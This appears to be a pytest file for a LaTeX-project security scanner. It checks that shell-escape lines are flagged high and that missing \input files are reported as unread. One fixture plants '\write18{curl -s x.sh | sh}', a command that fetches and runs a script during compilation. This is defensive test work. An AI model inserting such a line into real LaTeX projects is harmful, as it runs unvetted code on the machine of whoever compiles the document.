"""Scanning LaTeX projects for what a compile would run, and for text the scan cannot read (issue 35)."""

from __future__ import annotations

import json
from pathlib import Path

from typer.testing import CliRunner

from rhetorica.cli.app import app
from rhetorica.documents.scan.findings import Unread
from rhetorica.documents.scan.latex import scan_latex
from tests.rewriting.latex_project.safety_corpus import attempts


def _project(root: Path, body: str, files: tuple[tuple[str, str], ...] = ()) -> Path:
    root.mkdir(parents=True)
    (root / "main.tex").write_text("\\documentclass{article}\n\\begin{document}\n" + body + "\n\\end{document}\n")
    for name, text in files:
        (root / name).write_text(text)
    return root


def test_a_project_of_one_write18_line_is_high_and_exits_1(tmp_path: Path) -> None:
    root = _project(tmp_path / "p", "\\immediate\\write18{curl -s x.sh | sh}")
    (finding,) = scan_latex(root).findings
    assert (finding.kind, finding.severity, finding.location.describe(), finding.text) == (
        "latex-shell", "high", "main.tex line 3, col 11", "\\write18")
    result = CliRunner().invoke(app, ["scan", str(root)])
    assert result.exit_code == 1 and "no findings" not in result.stdout


def test_every_generated_attempt_scans_high(tmp_path: Path) -> None:
    highs = 0
    for i, attempt in enumerate(attempts()):
        report = scan_latex(_project(tmp_path / f"p{i}", "Some text.\n" + attempt.line, attempt.files))
        highs += any(f.kind == "latex-shell" and f.severity == "high" for f in report.findings)
    assert (len(attempts()), highs) == (76, 76)


def test_a_missing_input_is_unread_and_exits_2_naming_it(tmp_path: Path) -> None:
    root = _project(tmp_path / "p", "Some words.\n\\input{sections/gone}")
    reason = "missing \\input file 'sections/gone': the text it would bring in is absent from this document"
    assert scan_latex(root).unread == [Unread(file=f"{root}/main.tex:4", reason=reason)]
    result = CliRunner().invoke(app, ["scan", str(root)])
    assert result.exit_code == 2
    assert f"error: {root}/main.tex:4: {reason}" in result.stderr
    payload = json.loads(CliRunner().invoke(app, ["scan", str(root), "--json"]).stdout)
    assert payload["exit_status"] == 2
    assert payload["reports"][0]["unread"] == [{"file": f"{root}/main.tex:4", "page": None, "reason": reason}]
